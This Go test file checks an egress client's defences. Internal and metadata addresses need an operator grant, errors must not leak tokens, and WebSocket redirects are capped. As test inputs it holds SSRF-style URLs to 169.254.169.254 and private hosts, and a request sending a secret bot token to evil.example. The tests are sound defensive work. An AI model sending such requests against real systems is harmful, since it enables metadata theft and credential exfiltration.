package egress

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/coder/websocket"

	"github.com/hermes-host/hermes-host/abi"
)

// TestInternalAddressesNeedAGrant: whatever a manifest declares, loopback, private, link-local
// (metadata) and unspecified addresses are reached only with the operator's grant, checked on
// the address dialed, so a declared name that resolves to 127.0.0.1 is refused as well.
func TestInternalAddressesNeedAGrant(t *testing.T) {
	var hits int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits++; w.Write([]byte("ok")) }))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	c := NewClient(Limits{})
	ctx := context.Background()
	for _, tc := range []struct{ declared, url string }{
		{"localhost:" + port, "http://localhost:" + port + "/x"}, // a name resolving to 127.0.0.1
		{"127.0.0.1:" + port, srv.URL + "/x"},
		{"169.254.169.254", "http://169.254.169.254/latest/meta-data/"},
		{"10.0.0.1", "http://10.0.0.1/"},
		{"192.168.1.1", "http://192.168.1.1/"},
		{"0.0.0.0:" + port, "http://0.0.0.0:" + port + "/"},
		{"[::1]:" + port, "http://[::1]:" + port + "/"},
	} {
		_, err := c.HTTP(ctx, Policy{Manifest: []string{tc.declared}}, "send", &abi.HTTPRequest{URL: tc.url})
		if abi.CodeOf(err) != abi.CodeDenied || !strings.Contains(err.Error(), "operator grants") {
			t.Errorf("%s declared %s: %v", tc.url, tc.declared, err)
		}
	}
	if hits != 0 {
		t.Fatalf("%d requests reached the loopback server", hits)
	}
	// With the operator's grant (egress_internal) the declared name works; egress_extra grants too.
	for _, pol := range []Policy{
		{Manifest: []string{"localhost:" + port}, Internal: []string{"127.0.0.0/8"}},
		{Manifest: []string{"localhost:" + port}, Internal: []string{"localhost"}},
		{Extra: []string{"127.0.0.1"}},
	} {
		u := "http://localhost:" + port + "/x"
		if len(pol.Manifest) == 0 {
			u = srv.URL + "/x"
		}
		if r, err := c.HTTP(ctx, pol, "send", &abi.HTTPRequest{URL: u}); err != nil || string(r.Body) != "ok" {
			t.Errorf("granted %+v: %v", pol, err)
		}
	}
	// WebSocket dials are checked the same way.
	ws := "ws://localhost:" + port + "/"
	if _, err := c.WSOpen(ctx, Owner{"p", "main"}, Policy{Manifest: []string{"localhost:" + port}}, "poll", &abi.WSOpenRequest{URL: ws}); abi.CodeOf(err) != abi.CodeDenied {
		t.Errorf("WebSocket to a name resolving to loopback: %v", err)
	}
}

// TestErrorsQuoteOnlyTheOrigin: tokens live in paths (Telegram's /bot<token>/); no error quotes
// a path or a query, whichever way the request fails.
func TestErrorsQuoteOnlyTheOrigin(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/loop/botSECRET":
			http.Redirect(w, r, "/loop/botSECRET?n=SECRET", http.StatusFound)
		case "/out/botSECRET":
			http.Redirect(w, r, "http://example.invalid/botSECRET/x", http.StatusFound)
		case "/hang/botSECRET":
			hj, _ := w.(http.Hijacker)
			conn, _, _ := hj.Hijack()
			conn.Close()
		}
	}))
	defer srv.Close()
	c := NewClient(Limits{})
	ctx := context.Background()
	ok := Policy{Extra: []string{"127.0.0.1"}}
	for _, tc := range []struct {
		pol Policy
		url string
	}{
		{Policy{Manifest: []string{"api.telegram.org"}}, "https://evil.example/botSECRET/sendMessage?x=SECRET"},
		{ok, "http://127.0.0.1:1/botSECRET/getMe"},
		{ok, srv.URL + "/loop/botSECRET"},
		{ok, srv.URL + "/out/botSECRET"},
		{ok, srv.URL + "/hang/botSECRET"},
		{ok, "ftp://127.0.0.1/botSECRET"},
		{Policy{Manifest: []string{"localhost"}}, "http://localhost/botSECRET"},
	} {
		_, err := c.HTTP(ctx, tc.pol, "send", &abi.HTTPRequest{URL: tc.url, TimeoutMs: 2000})
		if err == nil || strings.Contains(err.Error(), "SECRET") {
			t.Errorf("%s: %v", tc.url, err)
		}
	}
	if _, err := c.WSOpen(ctx, Owner{"p", "main"}, ok, "poll", &abi.WSOpenRequest{URL: "ws://127.0.0.1:1/botSECRET"}); err == nil || strings.Contains(err.Error(), "SECRET") {
		t.Errorf("WebSocket: %v", err)
	}
}

// TestWebSocketRedirectsCapped: a WebSocket handshake that redirects forever stops after a few.
func TestWebSocketRedirectsCapped(t *testing.T) {
	var hops int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hops++
		http.Redirect(w, r, "/again", http.StatusFound)
	}))
	defer srv.Close()
	c := NewClient(Limits{})
	_, err := c.WSOpen(context.Background(), Owner{"p", "main"}, Policy{Extra: []string{"127.0.0.1"}}, "poll",
		&abi.WSOpenRequest{URL: "ws" + strings.TrimPrefix(srv.URL, "http") + "/start"})
	if err == nil || !strings.Contains(err.Error(), "redirects") || hops > maxRedirects+1 {
		t.Fatalf("after %d hops: %v", hops, err)
	}
	_ = websocket.StatusNormalClosure
}
